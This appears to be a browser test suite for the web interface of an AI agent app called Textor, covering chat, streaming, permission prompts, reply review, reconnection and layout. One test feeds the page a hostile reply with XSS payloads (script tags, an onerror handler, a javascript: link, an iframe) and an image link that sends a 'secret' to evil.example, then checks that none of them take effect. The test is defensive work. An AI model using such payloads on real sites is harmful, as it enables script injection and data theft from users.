"""The page in a real Chromium, over a real server, machine and host; only the model is scripted."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from server_parts import (
    TOKEN,
    beginning,
    chromium,
    done,
    ended,
    finished,
    machine,
    needs_chromium,
    page_of,
    served,
    started,
    until,
    write,
)

from textor import events as e
from textor.actions import Action, Outcome
from textor.assembly import Machine
from textor.errors import ModelError
from textor.events import Definition
from textor.live import Delta
from textor.testing import Call, Gate, Reply, ScriptedModel

if TYPE_CHECKING:
    from playwright.async_api import Page

pytestmark = [pytest.mark.browser, needs_chromium]
MODEL = "scripted:model"
Body = Callable[["Page", Machine, str], Awaitable[None]]


def in_page(tmp_path: Path, body: Body, script: list[Any] | None = None, session: str = "") -> None:
    """Run `body` with an open page; without a script nothing is hosted, and events are written."""

    async def run() -> None:
        model = ScriptedModel(script) if script is not None else None
        async with (
            machine(model, tmp=tmp_path, host=script is not None) as made,
            served(made, tmp_path) as address,
            chromium() as browser,
            page_of(browser, address, session) as page,
        ):
            page.set_default_timeout(20_000)
            await body(page, made, address)

    asyncio.run(run())


def action(page: Page, name: str, state: str) -> Any:
    return page.get_by_role("article", name=f"Action {name}: {state}", exact=True)


def log(page: Page) -> Any:
    """The conversation; beside it stands what a screen reader is told."""
    return page.get_by_role("log")


# -- a conversation ------------------------------------------------------------------------


def test_a_message_is_answered(tmp_path: Path) -> None:
    async def body(page: Page, made: Machine, address: str) -> None:
        session = await made.create(workspace=tmp_path, model=MODEL, agent="main", title="Garden")
        await page.goto(f"{address}/#s={session.id}")
        box = page.get_by_role("textbox", name="Message Textor")
        await box.fill("First line")
        await box.press("Shift+Enter")
        await box.press_sequentially("second line")
        await box.press("Enter")
        await log(page).get_by_text("good day").wait_for()
        await page.get_by_role("button", name="Stop").wait_for(state="detached")
        assert await box.input_value() == ""
        assert await log(page).aria_snapshot() == (
            '- log:\n  - article "Message from You":\n    - paragraph: First line second line\n'
            '  - article "Reply of Textor":\n    - paragraph:\n      - strong: A very\n'
            "      - text: good day."
        )
        assert TOKEN not in page.url
        await page.get_by_text("Reply: **A very**").wait_for(state="attached")  # what a screen reader is told
        counters = await page.get_by_label("Used so far").text_content()
        assert counters is not None
        assert "tokens" in counters
        assert "free" in counters

    in_page(tmp_path, body, ["**A very** good day."])


def test_a_new_chat_begins_a_session(tmp_path: Path) -> None:
    async def body(page: Page, made: Machine, address: str) -> None:
        made.config.models["default"] = MODEL
        await page.reload()
        await page.get_by_role("button", name="What time is it?").click()
        box = page.get_by_role("textbox", name="Message Textor")
        assert await box.input_value() == "What time is it?"
        await box.press("Enter")
        await log(page).get_by_text("Noon.").wait_for()
        (info,) = await made.sessions()
        assert f"s={info.id}" in page.url
        current = page.get_by_role("navigation").locator("[aria-current=page]")
        await current.get_by_text("What time is it?").wait_for()
        assert await page.get_by_role("heading", level=1).text_content() == "What time is it?"

    in_page(tmp_path, body, ["Noon."])


def test_text_shows_while_it_streams_and_can_be_stopped(tmp_path: Path) -> None:
    gate = Gate()

    async def body(page: Page, made: Machine, address: str) -> None:
        made.config.models["default"] = MODEL
        box = page.get_by_role("textbox", name="Message Textor")
        await box.fill("Tell a story")
        await box.press("Enter")
        reply = page.get_by_role("article", name="Reply of Textor")
        await reply.get_by_text("Once upon", exact=True).wait_for()
        assert await reply.get_attribute("aria-busy") == "true"
        await page.get_by_role("button", name="Stop").click()
        await log(page).get_by_text("Stopped. Write on whenever you like.").wait_for()
        await reply.get_by_text("Once upon", exact=True).wait_for()
        assert await page.get_by_role("button", name="Stop").count() == 0

    in_page(tmp_path, body, [Reply("Once upon a time", gates={9: gate}, chunk=1)])


# -- the gate ------------------------------------------------------------------------------

WRITE = Reply("I write it.", calls=(Call("files_write", {"path": "a.txt", "text": "beans\n"}),))


def asking(tmp_path: Path, decide: Body, state: str) -> None:
    """A session whose model wants to write a file; `decide` is what the person does."""

    async def body(page: Page, made: Machine, address: str) -> None:
        session = await made.create("Write it", workspace=tmp_path, model=MODEL, agent="main")
        await page.goto(f"{address}/#s={session.id}")
        gate = page.get_by_role("group", name="Permission for files.write")
        await gate.wait_for()
        assert not (tmp_path / "a.txt").exists()
        await page.get_by_text("Textor waits for your decision.").wait_for()
        await decide(page, made, address)
        await action(page, "files.write", state).wait_for()
        await log(page).get_by_text("As you wish.").wait_for()
        assert await gate.count() == 0
        await page.get_by_text("Textor waits").wait_for(state="detached")

    in_page(tmp_path, body, [WRITE, "As you wish."])


def test_allowing_lets_it_happen(tmp_path: Path) -> None:
    async def decide(page: Page, made: Machine, address: str) -> None:
        await page.get_by_text("Textor waits").locator("..").get_by_role("button", name="Show").click()
        await page.keyboard.press("Enter")  # the focus is on Allow

    asking(tmp_path, decide, "done")
    assert (tmp_path / "a.txt").read_text() == "beans\n"


def reviewing(tmp_path: Path, decide: Body, script: list[Any]) -> list[e.Event]:
    """A session whose replies wait for a person; `decide` is what the person does with the first."""
    events: list[e.Event] = []

    async def body(page: Page, made: Machine, address: str) -> None:
        session = await made.create(
            "Write it", workspace=tmp_path, model=MODEL, agent="main", policy="yes", review=True
        )
        await page.goto(f"{address}/#s={session.id}")
        await page.get_by_role("article", name="Review of a reply").wait_for()
        assert not (tmp_path / "a.txt").exists()
        await decide(page, made, address)
        await (
            page.get_by_role("article", name="Review of a reply").get_by_role("button", name="Accept").click()
        )
        await page.get_by_role("article", name="Review of a reply").wait_for(state="detached")
        await until(session, ended)
        events.extend([event async for event in made.journal.read(session.id)])

    in_page(tmp_path, body, script)
    return events


def test_a_reply_is_edited_before_it_acts(tmp_path: Path) -> None:
    async def decide(page: Page, made: Machine, address: str) -> None:
        await page.get_by_role("button", name="Edit", exact=True).click()
        await page.get_by_label("The reply").fill("I write peas.")
        calls = page.get_by_label("Its actions as JSON")
        await calls.fill("[{]")
        await page.get_by_role("button", name="Go on as edited").click()
        await page.get_by_role("alert").wait_for()
        call = {"capability": "files.write", "arguments": {"path": "a.txt", "text": "peas"}}
        await calls.fill(json.dumps([call]))
        await page.get_by_role("button", name="Go on as edited").click()
        await action(page, "files.write", "done").wait_for()
        await log(page).get_by_text("I write peas.").wait_for()

    reviewing(tmp_path, decide, [WRITE, "As you wish."])
    assert (tmp_path / "a.txt").read_text() == "peas"


def test_a_reply_is_asked_for_again(tmp_path: Path) -> None:
    async def decide(page: Page, made: Machine, address: str) -> None:
        await page.get_by_role("button", name="Ask again").click()
        await page.get_by_label("Your remark").fill("not in a file")
        await page.keyboard.press("Enter")
        await action(page, "files.write", "replaced in the review").wait_for()
        await log(page).get_by_text("As you wish.").wait_for()

    events = reviewing(tmp_path, decide, [WRITE, "As you wish."])
    assert not (tmp_path / "a.txt").exists()
    assert [ev.body.verdict for ev in events if isinstance(ev.body, e.ReplyReviewed)] == ["again", "accept"]


def test_denying_with_a_reason_tells_the_model(tmp_path: Path) -> None:
    async def decide(page: Page, made: Machine, address: str) -> None:
        await page.get_by_role("button", name="Deny with a reason").click()
        await page.get_by_label("Reason for denying").fill("not in this folder")
        await page.keyboard.press("Enter")
        await page.get_by_text("Not done: not in this folder").wait_for()

    asking(tmp_path, decide, "denied")
    assert not (tmp_path / "a.txt").exists()


def test_the_arguments_can_be_edited(tmp_path: Path) -> None:
    async def decide(page: Page, made: Machine, address: str) -> None:
        await page.get_by_role("button", name="Edit arguments").click()
        field = page.get_by_label("Arguments as JSON")
        assert '"path": "a.txt"' in await field.input_value()
        await field.fill("[1]")
        await page.get_by_role("button", name="Allow as edited").click()
        await page.get_by_text("must be one JSON object").wait_for()
        await field.fill('{"path": "a.txt", "text": "squash"}')
        await page.get_by_role("button", name="Allow as edited").click()
        await page.get_by_text("edited by you").wait_for()

    asking(tmp_path, decide, "done")
    assert (tmp_path / "a.txt").read_text() == "squash"


# -- what a session may hold ---------------------------------------------------------------


def shown(tmp_path: Path, bodies: list[e.Body], body: Body) -> None:
    """A page on a session that consists of these events."""

    async def with_session(page: Page, made: Machine, address: str) -> None:
        await write(made, "s", bodies)
        await page.goto(f"{address}/#s=s")
        await log(page).get_by_role("article").first.wait_for()
        await body(page, made, address)

    in_page(tmp_path, with_session)


def test_each_outcome_and_end_has_its_words(tmp_path: Path) -> None:
    states = ["done", "failed", "denied", "cancelled", "unknown"]
    actions = [Action(f"a{i}", "files.read", {"path": f"{state}.txt"}) for i, state in enumerate(states)]
    bodies: list[e.Body] = [*beginning("Go"), started(), finished("", *actions)]
    bodies += [e.ActionJudged("main", a.id, "allow") for a in actions]
    bodies += [e.ActionStarted("main", a.id) for a in actions]
    bodies += [done(f"a{i}", f"It was {state}.", state) for i, state in enumerate(states)]
    bodies += [started(2), e.GenerationWaiting("main", "429", 3.0)]

    async def body(page: Page, made: Machine, address: str) -> None:
        for state in states:
            word = "outcome unknown" if state == "unknown" else state
            card = action(page, "files.read", word)
            await card.get_by_text(f"{state}.txt", exact=True).wait_for()
        assert await page.get_by_text("It was done.", exact=True).last.is_hidden()
        await page.get_by_text("Outcome").first.click()
        assert await page.get_by_text("It was done.", exact=True).last.is_visible()
        await page.get_by_text("It may have happened or not").wait_for()
        await page.get_by_text("The server asks to wait 3 s (429).").wait_for()
        ends = [
            (e.TurnEnded("main", "limit", "So far", "iterations"), "the number of steps for one message"),
            (e.TurnEnded("main", "failed", "", "The key is wrong."), "This did not work: The key is wrong."),
            (e.TurnEnded("main", "stopped", "", "a person stopped it"), "Stopped. Write on"),
        ]
        for event, words in ends:
            await write(made, "s", [event])
            await log(page).get_by_text(words).wait_for()
        await page.get_by_text("So far", exact=True).wait_for()

    shown(tmp_path, bodies, body)


def test_a_command_that_did_not_succeed_is_not_called_done_and_writing_from_the_right_stays_so(
    tmp_path: Path,
) -> None:
    run = Action("a1", "shell.run", {"command": "make test"})
    bodies: list[e.Body] = [
        *beginning("قل مرحبا"),
        started(),
        finished("", run),
        e.ActionStarted("main", "a1"),
    ]
    bodies += [e.ActionFinished("main", "a1", Outcome("done", "exit status 2", exit_status=2))]
    bodies += [started(2), finished("مرحبا بالعالم.")]

    async def body(page: Page, made: Machine, address: str) -> None:
        await action(page, "shell.run", "exit status 2").wait_for()
        assert await action(page, "shell.run", "done").count() == 0
        reply = log(page).get_by_text("مرحبا بالعالم.")
        assert await reply.evaluate("(e) => getComputedStyle(e).unicodeBidi") == "plaintext"

    shown(tmp_path, bodies, body)


def test_a_question_is_answered(tmp_path: Path) -> None:
    bodies: list[e.Body] = [*beginning("Go"), started(), e.Asked("main", "Which bed?", "k1")]

    async def body(page: Page, made: Machine, address: str) -> None:
        question = page.get_by_role("article", name="Question of main")
        await question.get_by_label("Your answer").fill("The north one")
        await question.get_by_role("button", name="Answer").click()
        await question.get_by_text("The north one").wait_for()
        events = [event.body async for event in made.journal.read("s")]
        assert events[-1] == e.Answered("k1", "The north one")

    shown(tmp_path, bodies, body)


def test_a_reply_can_do_nothing_to_the_page(tmp_path: Path) -> None:
    hostile = (
        "<script>window.hacked = 1</script>\n\n<img src=x onerror='window.hacked = 2'> and `ok`\n\n"
        "[click](javascript:window.hacked=3) ![secret](https://evil.example/?d=secret)\n\n"
        '<a href="https://x.example" id="app" name="chat">link</a> <context>kept</context>\n\n'
        "```html\n<script>window.hacked = 4</script>\n```\n\n- [x] <iframe src='https://evil.example'></iframe>"
    )
    asked: list[str] = []

    async def body(page: Page, made: Machine, address: str) -> None:
        page.on("request", lambda request: asked.append(request.url))
        await page.reload()
        reply = page.get_by_role("article", name="Reply of Textor")
        await reply.get_by_text("<context>kept</context>").wait_for()
        await reply.get_by_text("<script>window.hacked = 1</script>").wait_for()
        for selector in ("script", "img", "iframe", "[onerror]", "#app #app", "[href^=javascript]"):
            assert await page.locator("#app").locator(selector).count() == (1 if selector == "img" else 0)
        assert await page.evaluate("window.hacked") is None
        link = reply.get_by_role("link", name="secret")
        assert await link.get_attribute("rel") == "noopener noreferrer"
        assert not [url for url in asked if "evil" in url]

    shown(tmp_path, [*beginning("Go"), started(), finished(hostile)], body)


def test_a_long_session_shows_its_end_and_earlier_parts_on_demand(tmp_path: Path) -> None:
    bodies = beginning("Go")
    for n in range(2500):
        bodies += [started(n + 1), finished(f"Reply number {n}")]

    async def body(page: Page, made: Machine, address: str) -> None:
        last = page.get_by_text("Reply number 2499", exact=True)
        await last.wait_for()
        assert await last.evaluate("e => e.getBoundingClientRect().bottom < innerHeight")
        articles = page.get_by_role("log").get_by_role("article")
        before = await articles.count()
        assert before <= 60
        await page.get_by_role("button", name="Show earlier").click()
        await page.get_by_text("Reply number 2385", exact=True).wait_for()
        assert before < await articles.count() <= 120

    shown(tmp_path, bodies, body)


def test_a_long_paste_and_a_big_outcome_are_folded(tmp_path: Path) -> None:
    paste = "\n".join(f"line {n}" for n in range(4000))
    read = Action("a", "files.read", {"path": "x"})
    bodies: list[e.Body] = [*beginning(paste), started(), finished("", read), done("a", paste, "failed")]

    async def body(page: Page, made: Machine, address: str) -> None:
        message = page.get_by_role("article", name="Message from You")
        assert await message.get_by_text("line 3999").count() == 0
        await message.get_by_role("button", name="Show all").click()
        await message.get_by_text("line 3999").wait_for()
        card = action(page, "files.read", "failed")
        assert await card.get_by_text("line 3999").count() == 0
        await card.get_by_role("button", name="Show all").click()
        await card.get_by_text("line 3999").wait_for()

    shown(tmp_path, bodies, body)


def test_a_growing_reply_draws_only_its_last_block_anew(tmp_path: Path) -> None:
    async def body(page: Page, made: Machine, address: str) -> None:
        reply = page.get_by_role("article", name="Reply of Textor")
        await write(made, "s", [started()])
        await reply.get_by_text("Thinking").wait_for()

        async def grow(text: str, last: str) -> None:
            made.services.hub.send("s", Delta("main", "text", text))
            await reply.get_by_text(last).wait_for()

        await grow("# First\n\nA **bold** word\n\n", "bold")
        await grow("second block", "second block")
        await page.evaluate("document.querySelector('.markdown h3').marked = true")
        await grow(" goes on\n\n", "goes on")
        await grow("- item", "item")
        await write(made, "s", [finished("# First\n\nA **bold** word\n\nsecond block goes on\n\n- item")])
        await page.get_by_text("980 tokens").wait_for()
        assert await page.evaluate("document.querySelector('.markdown h3').marked")
        assert await reply.aria_snapshot() == (
            '- article "Reply of Textor":\n  - heading "First" [level=3]\n  - paragraph:\n    - text: A\n'
            "    - strong: bold\n    - text: word\n  - paragraph: second block goes on\n"
            "  - list:\n    - listitem: item"
        )

    shown(tmp_path, beginning("Go"), body)


# -- the connection ------------------------------------------------------------------------


def test_a_lost_connection_is_told_and_mended(tmp_path: Path) -> None:
    async def run() -> None:
        async with machine(tmp=tmp_path, host=False) as made, chromium() as browser:
            await write(made, "s", [*beginning("Go"), started(), finished("First reply")])
            async with served(made, tmp_path) as address:
                port = int(address.rpartition(":")[2])
                page_ = page_of(browser, address, "s")
                page = await page_.__aenter__()
                await page.get_by_text("First reply").wait_for()
                box = page.get_by_role("textbox", name="Add something")
                await box.fill("Do not lose me")
            await page.get_by_text("The connection to Textor is lost.").wait_for()
            await box.press("Enter")
            await page.get_by_text("Your text is kept").wait_for()
            assert await box.input_value() == "Do not lose me"
            await write(made, "s", [started(2), finished("Second reply")])
            async with served(made, tmp_path, port):
                await page.get_by_text("Second reply").wait_for()
                await page.get_by_text("The connection to Textor is lost.").wait_for(state="detached")
                assert await page.get_by_text("First reply").count() == 1
                await page.reload()
                assert await box.input_value() == "Do not lose me"
                await box.press("Enter")
                await log(page).get_by_text("Do not lose me").wait_for()
                assert await box.input_value() == ""
                await page_.__aexit__(None, None, None)

    asyncio.run(run())


def test_without_the_key_nothing_shows_and_the_address_opens_it(tmp_path: Path) -> None:
    async def body(page: Page, made: Machine, address: str) -> None:
        await page.evaluate("sessionStorage.clear()")
        await page.reload()
        await page.get_by_text("This page needs the key").wait_for()
        field = page.get_by_label("Address or key")
        await field.fill("wrong")
        await field.press("Enter")
        await page.get_by_text("This page needs the key").wait_for()
        await field.fill(f"{address}/#token={TOKEN}")
        await field.press("Enter")
        await page.get_by_text("What shall be done?").wait_for()

    in_page(tmp_path, body)


def test_the_small_model_is_introduced(tmp_path: Path) -> None:
    async def body(page: Page, made: Machine, address: str) -> None:
        await page.get_by_text("This is the small model in the box").wait_for()
        await page.get_by_text(str(tmp_path / "config.toml")).wait_for()
        await page.get_by_role("button", name="Hide").click()
        assert await page.get_by_text("This is the small model").count() == 0

    in_page(tmp_path, body)


@pytest.mark.parametrize("width", [390, 1100])
def test_it_fits_a_phone_and_a_desk(tmp_path: Path, width: int) -> None:
    wide = Action("a", "shell.run", {"command": "x" * 300})
    bodies: list[e.Body] = [
        *beginning("w" * 200),
        started(),
        finished("`" + "y" * 300 + "`\n\n| a | b |\n|--|--|\n| " + "z" * 200 + " | 1 |", wide),
        e.ActionJudged("main", "a", "ask", "it runs a program on this machine", "d"),
    ]

    async def body(page: Page, made: Machine, address: str) -> None:
        await page.set_viewport_size({"width": width, "height": 800})
        await page.get_by_role("group", name="Permission for shell.run").wait_for()
        assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        items = page.locator(".items > *")
        assert await items.evaluate_all(
            "all => all.every(i => i.getBoundingClientRect().right <= innerWidth)"
        )
        menu = page.get_by_role("button", name="Sessions")
        if width == 390:
            await menu.click()
            await page.get_by_role("navigation").get_by_role("link", name="New chat").click()
            await page.get_by_text("What shall be done?").wait_for()
        else:
            assert not await menu.is_visible()

    shown(tmp_path, bodies, body)


def test_a_failing_model_is_told_in_words(tmp_path: Path) -> None:
    async def body(page: Page, made: Machine, address: str) -> None:
        session = await made.create("Hello", workspace=tmp_path, model=MODEL, agent="main")
        await until(session, ended)
        await page.goto(f"{address}/#s={session.id}")
        await log(page).get_by_text("This did not work: The key was refused.").wait_for()

    in_page(tmp_path, body, [ModelError("The key was refused.", fault="auth")])


LIST = {"name": "files_list", "arguments": {"folder": "."}}
STEPS = [
    Reply(
        calls=(
            Call("iterate", {"thought": "First I look.", "criticism": "It may be empty.", "command": LIST}),
        )
    ),
    '{"thought": "That is all.", "description": "I say it.", "response": "Nothing is here."}\nSo far.',
]


def test_the_thoughts_of_each_step_are_shown(tmp_path: Path) -> None:
    async def body(page: Page, made: Machine, address: str) -> None:
        thinker = Definition("thinker", dialects=("step",), capabilities=("files.*",))
        session = await made.create("look", workspace=tmp_path, model=MODEL, definition=thinker)
        await page.goto(f"{address}/#s={session.id}")
        await log(page).get_by_text("Nothing is here.").wait_for()
        shown = await log(page).locator(".thoughts").all_inner_texts()
        assert shown == [
            "thought: First I look.\ncriticism: It may be empty.",
            "thought: That is all.\ndescription: I say it.",
        ]
        assert "{" not in await log(page).locator(".reply").last.inner_text()

    in_page(tmp_path, body, list(STEPS))


def test_sessions_are_searched_by_their_titles(tmp_path: Path) -> None:
    async def body(page: Page, made: Machine, address: str) -> None:
        titles = ["Garden in May", "Garden in June", "The cat", "A poem", "Prices", "Letters"]
        for title in titles:
            await made.create(workspace=tmp_path, model=MODEL, agent="main", title=title)
        await page.reload()
        listed = page.get_by_role("navigation").locator("li .title")
        await page.get_by_role("searchbox", name="Search the sessions").fill("june GARDEN")
        assert await listed.all_inner_texts() == ["Garden in June"]
        await page.get_by_role("searchbox").fill("")
        assert sorted(await listed.all_inner_texts()) == sorted(titles)

    in_page(tmp_path, body, [])
